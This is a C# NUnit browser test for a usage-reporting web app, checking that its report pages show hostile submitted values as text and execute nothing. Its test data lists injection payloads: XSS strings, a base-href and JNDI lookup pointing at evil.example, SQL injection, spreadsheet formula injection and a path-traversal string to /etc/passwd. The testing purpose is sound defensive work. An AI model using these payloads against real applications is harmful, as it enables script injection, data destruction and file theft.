using NUnit.Framework;
using UsageReporting.TestSupport;

namespace UsageReporting.BrowserTests;

/// <summary>What people report, and what a schema calls it, is text on a page, whatever is in it.</summary>
[RequiresTool(Chromium.Command)]
public sealed class HostileValuesTests
{
    private const string Label = "\"'><img src=x onerror=alert(1)><script>";

    private static readonly string[] Texts =
    [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "'><svg/onload=alert(1)>",
        "</title></style></textarea><script>alert(1)</script>",
        "javascript:alert(1)",
        "<a href=//evil.example/>x</a><base href=//evil.example/>",
        "]]><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "{{7*7}} ${7*7} ${jndi:ldap://evil.example/a} %s%n",
        "'; DROP TABLE reports;--",
        "=cmd|' /C calc'!A0",
        "a,b;c\\t|d",
    ];

    private static readonly string[] Words = ["<script>alert(1)</script>", "../../etc/passwd", "a%2Fb", "=cmd|calc!A0", "onclick=alert(1)//"];

    [Test, Property("Case", 28), Property("Case", 29), Property("Case", 30), Property("Case", 31)]
    public async Task Pages_OfHostileValues_ShowThemAndRunNothing()
    {
        await using HostileServer server = await HostileServer.StartAsync(Label, Words);
        await server.ReportAsync(Texts, Words);
        await server.CloseWeekAsync();
        await using BrowserPage browser = await Chromium.OpenAsync();
        string[] pages =
        [
            "index.html", "hostile/index.html", "hostile/about.html", "hostile/fields.html", "chart/hostile/text.html",
            "chart/hostile/year/text.html", "chart/hostile/text.svg", "chart/hostile/year/text.svg", "chart/hostile/plugins.html",
            "chart/hostile/plugins.svg", "chart/hostile/text,flag.html", "chart/hostile/text,flag.svg",
            .. Words.Select(word => $"chart/hostile/{Uri.EscapeDataString($"plugins.{Uri.EscapeDataString(word)}")}.html"),
        ];
        foreach (string page in pages)
        {
            await browser.GoAsync($"{server.Address}{page}");
            Assert.That(await browser.Page.Locator("script:not([src]), img, base, iframe, svg script").CountAsync(), Is.Zero, page);
            await browser.AssertCalmAsync(server.Address);
        }

        await browser.GoAsync($"{server.Address}chart/hostile/text.html");
        Assert.That(await browser.Page.Locator("tbody th").AllInnerTextsAsync(), Is.EquivalentTo(Texts));
        await browser.KeepAsync("hostile");
        await browser.AssertAccessibleAsync();
    }
}
